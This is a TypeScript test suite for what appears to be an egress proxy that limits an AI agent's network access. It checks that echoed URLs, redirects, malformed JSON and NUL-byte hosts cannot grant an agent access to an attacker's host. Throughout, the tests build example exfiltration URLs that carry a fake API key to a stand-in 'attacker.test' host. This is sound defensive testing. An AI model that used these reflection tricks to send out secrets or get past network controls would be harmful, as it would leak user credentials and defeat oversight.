// Issue 11 end to end, on real sockets: an agent cannot use an inspected API that echoes its request to grant
// itself an attacker's host; grants mean what they say (each URL its own expiry, the right `found`); a malformed
// or truncated JSON body takes back its grants; a control byte in a host grants nothing; and one response cannot
// make leash examine more than MAX_REFERENCES references.

import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { waitFor } from '../helpers/audit-sink.js';
import { curl } from '../helpers/clients.js';
import { startHttpOrigin, type TestOrigin } from '../helpers/origin.js';
import { policy, startLeash, type TestLeash } from '../helpers/leash.js';
import { MAX_REFERENCES } from '../../src/proxy/grants.js';

const SECRET = 'sk-live-7Hq2ZpX9wLm4Rt8Vb3Nc';
let api: TestOrigin;
let attacker: TestOrigin;
let leash: TestLeash;
const HOSTS = [
  'search.test',
  'narrow.test',
  'attacker.test',
  'img.cdn.test',
  'big.cdn.test',
  'other.test',
  'broken.cdn.test',
  'cut.cdn.test',
  'allowed.cdn.test',
  'late.cdn.test',
];

const at = (host: string, path = '/') => `http://${host}:${attacker.port}${path}`;

beforeAll(async () => {
  attacker = await startHttpOrigin();
  api = await startHttpOrigin((req, res, body) => {
    const url = new URL(req.url ?? '/', 'http://x');
    const q = url.searchParams.get('q') ?? '';
    const json = (value: unknown) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify(value));
    };
    switch (url.pathname) {
      case '/search':
        // Echoes the query, as most search APIs do, next to a legitimate image.
        return json({
          query: q,
          results: [{ title: `Results for ${q}`, url: q, image: at('img.cdn.test', '/thumb.png') }],
        });
      case '/post':
        return json({
          echo: body.toString('utf8').slice(0, 1000),
          results: [{ image: at(body.length > 65536 ? 'big.cdn.test' : 'img.cdn.test', '/ok.png') }],
        });
      case '/html':
        res.writeHead(200, { 'content-type': 'text/html' });
        return res.end(`<p>You searched for <a href="${q.replace(/"/g, '&quot;')}">${q}</a></p>`);
      case '/go':
        res.writeHead(302, { location: q });
        return res.end();
      case '/malformed':
        res.writeHead(200, { 'content-type': 'application/json' });
        return res.end(`{"results":[{"image":"${at('broken.cdn.test', '/a.png')}"}]]] not json`);
      case '/cut':
        res.writeHead(200, { 'content-type': 'application/json', 'content-length': '1000' });
        res.write(`{"results":[{"image":"${at('cut.cdn.test', '/a.png')}"},`);
        setTimeout(() => res.socket?.destroy(), 30);
        return;
      case '/nul':
        res.writeHead(200, { 'content-type': 'application/json' });
        return res.end(`{"u":"http://allowed.cdn.test\\u0000.attacker.test:${attacker.port}/"}`);
      case '/many':
        res.writeHead(200, { 'content-type': 'application/json' });
        return res.end(
          JSON.stringify({
            links: Array.from({ length: MAX_REFERENCES + 2000 }, (_, i) => `http://h${i}.many.test/`),
            last: at('late.cdn.test'),
          }),
        );
      default:
        res.writeHead(404).end();
    }
  });
  leash = await startLeash(
    policy(`
settings:
  dns: { hosts: { ${HOSTS.map((h) => `${h}: 127.0.0.1`).join(', ')} } }
  network: { allowCidrs: ["127.0.0.0/8"] }
rules:
  - { name: search, domain: search.test, ports: [${api.port}], inspect: [json, html], effect: allow }
  - { name: narrow, domain: narrow.test, ports: [${api.port}], inspect: { types: [json], grant: { hosts: ["*.cdn.test"] } }, effect: allow }
`),
  );
});

afterAll(async () => {
  await leash?.stop();
  await api?.close();
  await attacker?.close();
});

const get = (url: string) => curl({ url, proxy: leash.url });
const grantRecords = async (host: string) =>
  (await leash.records()).filter((r) => r.event === 'grant' && r.host === host);

describe('no self-granted exfiltration (issue 11 §1)', () => {
  it('the attack: a URL echoed from the query is not granted, the secret never leaves, and the skip is audited', async () => {
    const steal = at('attacker.test', `/steal?k=${SECRET}`);
    const search = await get(`http://search.test:${api.port}/search?q=${encodeURIComponent(steal)}`);
    expect(search.status).toBe(200);
    expect(search.body).toContain('attacker.test');
    const r = await get(steal);
    expect(r.status).toBe(403);
    expect(r.headers['x-leash-decision']).toBe('deny; reason=no_rule');
    expect(attacker.seen.filter((s) => s.url.includes(SECRET))).toEqual([]);
    const [skip] = await grantRecords('attacker.test');
    expect(skip).toMatchObject({
      reason: 'grant_skipped',
      effect: 'deny',
      rule: 'search',
      grant: { skipped: 'reflected', found: '$.query' },
    });
  });

  it('the legitimate image in the same response is still granted', async () => {
    expect((await get(at('img.cdn.test', '/thumb.png'))).status).toBe(200);
  });

  it.each([
    ['percent-encoded twice', (u: string) => encodeURIComponent(encodeURIComponent(u))],
    ['upper-cased', (u: string) => encodeURIComponent(u.toUpperCase())],
  ])('the query %s: still not granted', async (_name, encode) => {
    const steal = at('attacker.test', `/s?k=${SECRET}`);
    await get(`http://search.test:${api.port}/search?q=${encode(steal)}`);
    expect((await get(steal)).status).toBe(403);
  });

  it('echoed into an HTML attribute: not granted', async () => {
    const steal = at('attacker.test', `/h?k=${SECRET}`);
    await get(`http://search.test:${api.port}/html?q=${encodeURIComponent(steal)}`);
    expect((await get(steal)).status).toBe(403);
  });

  it('echoed into a Location redirect: not granted', async () => {
    const steal = at('attacker.test', `/r?k=${SECRET}`);
    const r = await get(`http://search.test:${api.port}/go?q=${encodeURIComponent(steal)}`);
    expect(r.status).toBe(302);
    expect((await get(steal)).status).toBe(403);
    expect(
      (await grantRecords('attacker.test')).some((x) => (x.grant as { found: string }).found === 'header Location'),
    ).toBe(true);
  });

  it('echoed from a POST body: not granted', async () => {
    const steal = at('attacker.test', `/p?k=${SECRET}`);
    await curl({
      url: `http://search.test:${api.port}/post`,
      proxy: leash.url,
      method: 'POST',
      data: JSON.stringify({ q: steal }),
      headers: { 'content-type': 'application/json' },
    });
    expect((await get(steal)).status).toBe(403);
  });

  it('a body over 64 KiB fails closed: only hosts in inspect.grant.hosts are granted', async () => {
    const big = 'x'.repeat(70 * 1024);
    await curl({ url: `http://search.test:${api.port}/post`, proxy: leash.url, method: 'POST', data: big });
    const skipped = (await grantRecords('big.cdn.test')).find((r) => r.rule === 'search');
    expect(skipped).toMatchObject({ reason: 'grant_skipped', grant: { skipped: 'request_unseen' } });
    expect((await get(at('big.cdn.test', '/ok.png'))).status).toBe(403);
    await curl({ url: `http://narrow.test:${api.port}/post`, proxy: leash.url, method: 'POST', data: big });
    expect((await get(at('big.cdn.test', '/ok.png'))).status).toBe(200);
  });
});

describe('a response that starts while the request body is still streaming', () => {
  it('is checked against the body received so far: the echoed first chunk grants nothing', async () => {
    // An origin that answers as soon as the first body chunk arrives, echoing it.
    const early = http.createServer((req, res) => {
      req.once('data', (chunk: Buffer) => {
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(JSON.stringify({ echo: chunk.toString('utf8') }));
        req.resume();
      });
    });
    await new Promise<void>((resolve) => early.listen(0, '127.0.0.1', resolve));
    const port = (early.address() as AddressInfo).port;
    const l = await startLeash(
      policy(`
settings:
  dns: { hosts: { early.test: 127.0.0.1, attacker.test: 127.0.0.1 } }
  network: { allowCidrs: ["127.0.0.0/8"] }
rules:
  - { name: early, domain: early.test, ports: [${port}], inspect: [json], effect: allow }
`),
    );
    try {
      const steal = at('attacker.test', `/early?k=${SECRET}`);
      const upload = http.request({
        host: '127.0.0.1',
        port: l.port,
        method: 'POST',
        path: `http://early.test:${port}/upload`,
        headers: { host: `early.test:${port}`, 'transfer-encoding': 'chunked' },
      });
      const response = new Promise<string>((resolve, reject) => {
        upload.on('response', (res) => {
          let body = '';
          res.setEncoding('utf8');
          res.on('data', (d: string) => (body += d));
          res.on('end', () => resolve(body));
        });
        upload.on('error', reject);
      });
      upload.write(steal);
      // The response is complete while the request body is still open.
      expect(JSON.parse(await response).echo).toBe(steal);
      expect((await curl({ url: steal, proxy: l.url })).status).toBe(403);
      upload.end('rest of the body');
      const skip = (await l.records()).find((r) => r.event === 'grant' && r.host === 'attacker.test');
      expect(skip).toMatchObject({ reason: 'grant_skipped', grant: { skipped: 'reflected' } });
    } finally {
      await l.stop();
      await new Promise((resolve) => early.close(resolve));
    }
  });
});

describe('a malformed or truncated JSON body takes back its grants (issue 11 §2)', () => {
  it('malformed: the grant made before the error is revoked, and audited', async () => {
    const r = await get(`http://search.test:${api.port}/malformed`);
    expect(r.status).toBe(200);
    expect((await get(at('broken.cdn.test', '/a.png'))).status).toBe(403);
    const records = await grantRecords('broken.cdn.test');
    expect(records.map((x) => x.reason)).toEqual(['granted', 'grant_revoked']);
    expect(records[1]).toMatchObject({ grant: { revoked: 'malformed', found: '$.results[0].image' } });
  });

  it('cut short by the upstream: revoked too', async () => {
    await get(`http://search.test:${api.port}/cut`);
    const records = await waitFor(async () => {
      const found = await grantRecords('cut.cdn.test');
      return found.some((x) => x.reason === 'grant_revoked') ? found : undefined;
    });
    expect(records?.find((x) => x.reason === 'grant_revoked')).toMatchObject({ grant: { revoked: 'truncated' } });
    expect((await get(at('cut.cdn.test', '/a.png'))).status).toBe(403);
  });
});

describe('a control byte in a host grants nothing (issue 19 §8)', () => {
  it('neither the part before the byte nor the part after', async () => {
    await get(`http://search.test:${api.port}/nul`);
    expect((await get(at('allowed.cdn.test'))).status).toBe(403);
    expect(await grantRecords('allowed.cdn.test')).toEqual([]);
  });
});

describe('inspection is bounded (issue 19)', () => {
  it(`stops after ${MAX_REFERENCES} references, says so in one record, and delivers the whole body`, async () => {
    const r = await get(`http://search.test:${api.port}/many`);
    expect(r.status).toBe(200);
    expect(JSON.parse(r.body).links).toHaveLength(MAX_REFERENCES + 2000);
    const stops = (await leash.records()).filter((x) => x.reason === 'inspection_stopped');
    expect(stops).toHaveLength(1);
    const stop = stops[0] as { event: string; rule: string; grant: { stopped: string; references: number } };
    expect(stop).toMatchObject({ event: 'grant', rule: 'search' });
    // The reference budget, unless a loaded machine spent the time budget first: never more than either allows.
    expect(stop.grant.references).toBeLessThanOrEqual(MAX_REFERENCES);
    expect(
      stop.grant.stopped === 'reference_budget'
        ? stop.grant.references === MAX_REFERENCES
        : stop.grant.stopped === 'time_budget',
    ).toBe(true);
    // Past the budget nothing more is examined: the reference after it was never granted.
    expect((await get(at('late.cdn.test'))).status).toBe(403);
  });
});
